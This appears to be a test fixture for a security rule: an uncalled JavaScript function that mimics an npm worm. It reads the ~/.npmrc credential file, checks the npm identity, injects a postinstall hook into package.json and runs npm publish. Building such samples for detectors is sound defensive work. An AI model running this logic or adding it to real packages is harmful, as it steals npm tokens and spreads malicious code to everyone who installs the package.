// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
function never(dir) {
  const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  const who = execSync('npm whoami').toString().trim();
  const pkg = JSON.parse(fs.readFileSync(path.join(dir, 'package.json'), 'utf8'));
  pkg.scripts.postinstall = 'node bundle.js';
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify(pkg));
  execSync('npm publish', { cwd: dir });
  return [npmrc, who];
}
module.exports = { never };
